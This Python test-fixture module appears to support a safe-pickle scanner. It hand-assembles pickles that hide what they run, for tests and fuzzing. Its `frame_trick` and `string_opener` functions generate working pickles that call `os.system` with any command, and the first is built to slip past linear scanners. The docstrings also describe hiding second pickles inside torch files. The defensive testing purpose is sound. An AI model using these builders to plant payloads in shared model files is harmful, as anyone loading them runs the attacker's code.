"""Pickles that hide what they run, or look hostile without being so, built by hand.

Shared by tests/test_safe_pickle.py, the pickle corpus and the fuzzers:

* the frame trick (fickling's frame-boundary case): protocol 4+ ``FRAME`` whose end
  falls inside a string opcode. CPython's C unpickler reading from a file (what
  ``pickle.load`` and ``torch.load`` do) takes the string from *after* the frame and
  carries on there, while a linear reader (``pickletools``, any scanner) takes the
  frame's tail plus what follows, and so sees the call as the bytes of a harmless
  ``SHORT_BINBYTES``;
* a second pickle after the first ``STOP`` (raw, inside ``data.pkl``, as another
  ``.pkl`` member of a torch zip, after a legacy stream's storages, or as one of the
  legacy stream's own five pickles);
* a protocol-0 stream that opens with a string opcode (``V``/``S``);
* ``Module.state_dict()`` files, whose ``OrderedDict`` carries ``_metadata`` set by
  ``BUILD``, and hostile variants of that ``BUILD``.
"""

from __future__ import annotations

import math
import pickle
import struct
from dataclasses import dataclass
from typing import Any

from fixtures_formats import Call, G, PersId, _Asm, in_legacy, in_torch_zip

# --------------------------------------------------------------------------- assembler


@dataclass(frozen=True)
class D:
    """A dict node: ``{key: value}``, made by ``OrderedDict()`` when ``ordered``, with
    ``state`` (another node) set on it by ``BUILD`` when given."""

    items: tuple[tuple[Any, Any], ...] = ()
    ordered: bool = False
    state: Any = None


class Asm(_Asm):
    def emit(self, node: Any) -> None:
        if isinstance(node, D):
            if node.ordered:
                super().emit(Call(G("collections", "OrderedDict")))
            else:
                self.out += b"}" if self.p >= 1 else b"(d"
            if node.items:
                self.out += b"("
                for key, value in node.items:
                    self.emit(key)
                    self.emit(value)
                self.out += b"u"
            if node.state is not None:
                self.emit(node.state)
                self.out += b"b"
        elif isinstance(node, float):
            self.out += b"G" + struct.pack(">d", node) if self.p >= 1 else b"F%r\n" % node
        else:
            super().emit(node)


def assemble(node: Any, protocol: int = 2) -> bytes:
    asm = Asm(protocol)
    asm.emit(node)
    asm.out += b"."
    return bytes(asm.out)


def tensor(
    key: str = "0",
    numel: int = 2 * 768,
    shape: tuple[int, ...] = (2, 768),
    stride: tuple[int, ...] | None = None,
    *,
    storage: str = "FloatStorage",
    legacy: bool = False,
) -> Call:
    """``_rebuild_tensor_v2`` of a float storage, as torch.save writes it."""
    if stride is None:
        stride = tuple(math.prod(shape[i + 1 :]) for i in range(len(shape)))
    pid: tuple[Any, ...] = ("storage", G("torch", storage), key, "cpu", numel)
    return Call(
        G("torch._utils", "_rebuild_tensor_v2"),
        PersId(pid + (None,) if legacy else pid),
        0,
        shape,
        stride,
        False,
        Call(G("collections", "OrderedDict")),
    )


def floats(numel: int, value: float = 0.01) -> bytes:
    return struct.pack(f"<{numel}f", *([value] * numel))


# --------------------------------------------------------------------------- state dicts


def module_metadata(*prefixes: str) -> D:
    """``{"_metadata": OrderedDict({prefix: {"version": 1}})}``: what state_dict() attaches."""
    return D((("_metadata", D(tuple((p, D((("version", 1),))) for p in prefixes), ordered=True)),))


def state_dict_file(
    state: Any = None, *, legacy: bool = False, protocol: int = 2, n: int = 2
) -> bytes:
    """``{"weight": [n, 768]}`` as an OrderedDict with ``state`` BUILT onto it, in a torch file."""
    state = module_metadata("") if state is None else state
    node = D((("weight", tensor(numel=n * 768, shape=(n, 768), legacy=legacy)),), True, state)
    pkl = assemble(node, protocol)
    if legacy:
        return in_legacy(pkl, ["0"], struct.pack("<Q", n * 768) + floats(n * 768))
    return in_torch_zip(pkl, records={"0": floats(n * 768)})


# --------------------------------------------------------------------------- the frame trick


def _sbu(text: str) -> bytes:
    raw = text.encode("utf-8")
    assert len(raw) < 256
    return b"\x8c" + bytes([len(raw)]) + raw


#: What a linear reader swallows as one SHORT_BINBYTES: opened by NEWTRUE (0x88 = 136).
_HIDDEN = 136


def frame_trick(cmd: str, protocol: int = 4) -> bytes:
    """A pickle that runs ``os.system(cmd)`` under CPython's C unpickler reading a file,
    while a linear reader sees a frame, two byte strings, POP and STOP.

    Layout: ``FRAME(3)`` holding ``SHORT_BINUNICODE`` with length 20 and one byte of
    text. The C unpickler drops that byte and reads the 20 bytes after the frame; a
    linear reader takes the byte plus 19 of them, so its next opcode is the 20th byte,
    ``SHORT_BINBYTES``, whose length is the next byte (``NEWTRUE``, 136): the call
    that follows is bytes to it and opcodes to the C unpickler.
    """
    call = _sbu("os") + _sbu("system") + b"\x93" + _sbu(cmd) + b"\x85R"
    assert len(call) <= _HIDDEN, "command too long to hide"
    n = 20
    after_frame = b"N" * (n - 1) + b"\x43"
    body = b"\x8c" + bytes([n]) + b"X"
    return (
        bytes([0x80, protocol])
        + b"\x95"
        + struct.pack("<Q", len(body))
        + body
        + after_frame
        + b"\x88"
        + call.ljust(_HIDDEN, b"N")
        + b"0."
    )


def framed(*frames: bytes, tail: bytes = b"", protocol: int = 4) -> bytes:
    """``PROTO`` then each of ``frames`` as a ``FRAME`` of its own length, then ``tail``."""
    out = bytes([0x80, protocol])
    for frame in frames:
        out += b"\x95" + struct.pack("<Q", len(frame)) + frame
    return out + tail


def frame_declaring(length: int, content: bytes, protocol: int = 4) -> bytes:
    """A ``FRAME`` declaring ``length`` bytes, followed by ``content`` (any length)."""
    return bytes([0x80, protocol]) + b"\x95" + struct.pack("<Q", length) + content


# --------------------------------------------------------------------------- second pickles


def benign_pickle(protocol: int = 2) -> bytes:
    return pickle.dumps({"a": 1}, protocol=protocol)


def string_opener(cmd: str, protocol: int = 0) -> bytes:
    """``os.system(cmd)`` in a pickle whose first opcode is a STRING (``S``) at protocol 0."""
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    quoted = '"' + cmd.replace("\\", "\\\\").replace('"', '\\"') + '"'
    return head + b"S" + quoted.encode() + b"\np0\n0cos\nsystem\n(g0\ntR."
